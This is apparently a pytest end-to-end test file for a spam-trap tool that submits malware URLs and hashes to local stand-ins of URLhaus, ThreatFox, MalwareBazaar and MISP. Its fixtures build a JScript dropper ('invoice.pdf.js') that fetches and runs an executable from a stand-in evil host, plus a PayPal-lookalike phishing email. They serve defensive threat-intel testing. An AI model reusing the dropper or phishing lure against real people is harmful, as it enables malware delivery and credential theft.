"""Submission connectors end to end (issue 6): messages imported and analysed, then
`spamhattan submit --connector X` against a LOCAL STAND-IN of URLhaus, ThreatFox,
MalwareBazaar and MISP (tests/e2e/standins/abusech.py, bound to 127.0.0.1; no internet). The
stand-in checks every request against the services' documented fields and records only the
valid ones, so "it arrived" also means "it was well formed". The runner inside `serve` is
checked against the same stand-in."""

import hashlib
import io
import json
import time
import zipfile
from email.message import EmailMessage

import pytest

from conftest import Trap
from standins.abusech import StandIn

KEY = "stand-in-key-0123456789"
PAYLOAD_URL = "http://dl.evil-payload.example/files/p.exe"
PHISH_URL = "http://login.paypa1-secure.example/verify"


def zip_payload(n):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        info = zipfile.ZipInfo("invoice.pdf.js", date_time=(2026, 12, 3, 10, 0, 0))
        z.writestr(info, "var s = new ActiveXObject('WScript.Shell');\n"
                         "var x = new ActiveXObject('MSXML2.XMLHTTP');\n"
                         f"x.open('GET', '{PAYLOAD_URL}', false);\n"
                         f"s.Run('cmd /c start p.exe'); // {n}\n")
    return buf.getvalue()


def dropper(n, payload):
    m = EmailMessage()
    m["From"] = "billing@invoices.example"
    m["To"] = "victim@trap.example"
    m["Subject"] = "Invoice 20261203"
    m["Message-ID"] = f"<drop{n}@invoices.example>"
    m.set_content(f"Please find the invoice attached. Download: {PAYLOAD_URL}\n")
    m.add_attachment(payload, maintype="application", subtype="zip", filename="invoice.zip")
    return m.as_bytes().replace(b"\n", b"\r\n")


PHISH = (b"From: \"PayPal Service\" <service@paypa1-secure.example>\r\n"
         b"To: victim@trap.example\r\nSubject: Your account 48213 is limited\r\n"
         b"Message-ID: <p1@paypa1-secure.example>\r\nDate: Thu, 03 Dec 2026 10:00:00 +0000\r\n"
         b"Content-Type: text/html; charset=utf-8\r\n\r\n"
         b"<p>Verify your account now: <a href=\"" + PHISH_URL.encode() + b"\">"
         b"https://www.paypal.com/signin</a></p>\r\n")


def config(stand, extra=""):
    return f"""
[analysis.auth]
enabled = false

[feeds]
refresh_secs = 0

[[feeds.audience]]
name = "abusech"
tlp = "green"

[[feeds.audience]]
name = "misp-share"
tlp = "amber"

[[feeds.connector]]
name = "uh"
kind = "urlhaus"
url = "{stand.url('urlhaus')}"
api_key = "{KEY}"
audience = "abusech"

[[feeds.connector]]
name = "tf"
kind = "threatfox"
url = "{stand.url('threatfox')}"
api_key = "{KEY}"
audience = "abusech"
tags = ["spamtrap"]

[[feeds.connector]]
name = "mb"
kind = "malwarebazaar"
url = "{stand.url('malwarebazaar')}"
api_key = "{KEY}"
audience = "misp-share"

[[feeds.connector]]
name = "misp"
kind = "misp"
url = "{stand.url('misp')}"
api_key = "{KEY}"
audience = "misp-share"

[[feeds.connector]]
name = "misp-again"
kind = "misp"
url = "{stand.url('misp')}"
api_key = "{KEY}"
audience = "misp-share"

[[feeds.connector]]
name = "tf-wrong-key"
kind = "threatfox"
url = "{stand.url('threatfox')}"
api_key = "not-the-key"
audience = "abusech"
{extra}"""


@pytest.fixture(scope="module")
def payloads():
    return [zip_payload(n) for n in range(3)]


@pytest.fixture(scope="module")
def setup(tmp_path_factory, spamhattan_bin, payloads):
    stand = StandIn(KEY).start()
    base = tmp_path_factory.mktemp("submit")
    cfg = base / "submit.toml"
    cfg.write_text(config(stand))
    trap = Trap(spamhattan_bin, base / "data")
    files = []
    for n, p in enumerate(payloads):
        f = base / f"drop{n}.eml"
        f.write_bytes(dropper(n, p))
        files.append(f)
    (base / "phish.eml").write_bytes(PHISH)
    files.append(base / "phish.eml")
    out = trap.cli("import", *map(str, files), "--config", str(cfg))
    assert out.returncode == 0, out.stderr.decode(errors="replace")
    out = trap.cli("worker", "--until-idle", "--config", str(cfg), timeout=300)
    assert out.returncode == 0, out.stderr.decode(errors="replace")
    trap.cfg = cfg
    yield trap, stand
    stand.stop()


def submit(trap, name, *extra):
    return trap.cli("submit", "--config", str(trap.cfg), "--connector", name, *extra, timeout=120)


def ok(r):
    assert r.returncode == 0, r.stderr.decode(errors="replace")
    return r


def test_dry_run_prints_requests_and_sends_nothing(setup):
    trap, stand = setup
    before = len(stand.requests)
    out = ok(submit(trap, "tf", "--dry-run"))
    lines = [json.loads(l) for l in out.stdout.splitlines() if l.strip()]
    assert lines, out.stderr.decode()
    assert all(l["connector"] == "tf" and l["method"] == "POST" for l in lines)
    assert all(l["headers"]["Auth-Key"] == "<redacted>" for l in lines)
    assert KEY not in out.stdout.decode()
    assert len(stand.requests) == before, "a dry run reached the service"


def test_unknown_connector_exits_2(setup):
    trap, _ = setup
    r = submit(trap, "nope")
    assert r.returncode == 2
    assert "no connector" in r.stderr.decode() and "tf" in r.stderr.decode()


def test_urlhaus_gets_malware_urls_only(setup):
    trap, stand = setup
    ok(submit(trap, "uh"))
    urls = {s["url"] for s in stand.accepted["urlhaus"]}
    assert PAYLOAD_URL in urls, (urls, stand.refused)
    assert PHISH_URL not in urls, "a phishing URL is not a malware download"
    assert all(s["threat"] == "malware_download" for s in stand.accepted["urlhaus"])


def test_threatfox_gets_url_and_hashes_once(setup, payloads):
    trap, stand = setup
    ok(submit(trap, "tf"))
    got = {(r["ioc_type"], r["ioc"]) for r in stand.accepted["threatfox"]}
    assert ("url", PAYLOAD_URL) in got, (got, stand.refused)
    for p in payloads:
        assert ("sha256_hash", hashlib.sha256(p).hexdigest()) in got
    assert all("spamtrap" in r["tags"] for r in stand.accepted["threatfox"])
    assert not any(t == "ip:port" for t, _ in got)
    n = len(stand.requests)
    ok(submit(trap, "tf"))
    assert len(stand.requests) == n, "the cursor did not move: the same IOCs were sent again"


def test_wrong_key_fails_and_keeps_the_cursor(setup):
    trap, stand = setup
    r = submit(trap, "tf-wrong-key")
    assert r.returncode != 0
    assert "unknown_auth_key" in r.stderr.decode()
    n = len(stand.requests)
    r = submit(trap, "tf-wrong-key")
    assert len(stand.requests) > n, "a refused key must not move the cursor"


def test_malwarebazaar_gets_the_top_level_attachments(setup, payloads):
    trap, stand = setup
    stand.fail_next["malwarebazaar"] = 1  # one 503: retried
    ok(submit(trap, "mb"))
    got = {r["sha256"]: r for r in stand.accepted["malwarebazaar"]}
    for p in payloads:
        sha = hashlib.sha256(p).hexdigest()
        assert sha in got, (list(got), stand.refused)
        assert got[sha]["delivery_method"] == "email_attachment"
        assert got[sha]["size"] == len(p)
    # The script inside the zip was not delivered as an attachment: not uploaded.
    assert len(got) == len(payloads)


def test_misp_adds_one_event_per_campaign_then_edits(setup):
    trap, stand = setup
    ok(submit(trap, "misp"))
    adds = [e for e in stand.accepted["misp"] if e["_op"] == "add"]
    assert adds, stand.refused
    values = {a["value"] for e in adds for a in e.get("Attribute", [])}
    values |= {a["value"] for e in adds for o in e.get("Object", [])
               for a in o.get("Attribute", [])}
    assert PAYLOAD_URL in values
    assert len({e["uuid"] for e in adds}) == len(adds)
    ok(submit(trap, "misp-again"))
    edits = [e for e in stand.accepted["misp"] if e["_op"] == "edit"]
    assert {e["uuid"] for e in edits} == {e["uuid"] for e in adds}


def test_serve_runs_the_connectors(tmp_path, spamhattan_bin, payloads):
    stand = StandIn(KEY).start()
    try:
        cfg = tmp_path / "serve.toml"
        cfg.write_text(config(stand))
        trap = Trap(spamhattan_bin, tmp_path / "data", extra_args=["--config", str(cfg)])
        f = tmp_path / "drop.eml"
        f.write_bytes(dropper(0, payloads[0]))
        assert trap.cli("import", str(f), "--config", str(cfg)).returncode == 0
        assert trap.cli("worker", "--until-idle", "--config", str(cfg), timeout=300).returncode == 0
        trap.start()
        sha = hashlib.sha256(payloads[0]).hexdigest()
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline:
            with stand.lock:
                if any(r["sha256"] == sha for r in stand.accepted["malwarebazaar"]) and any(
                        r["ioc"] == sha for r in stand.accepted["threatfox"]):
                    break
            time.sleep(0.2)
        else:
            pytest.fail(f"serve did not submit within 60 s: {stand.refused}\n{trap.stderr_tail()}")
        assert trap.stop() == 0
    finally:
        stand.stop()
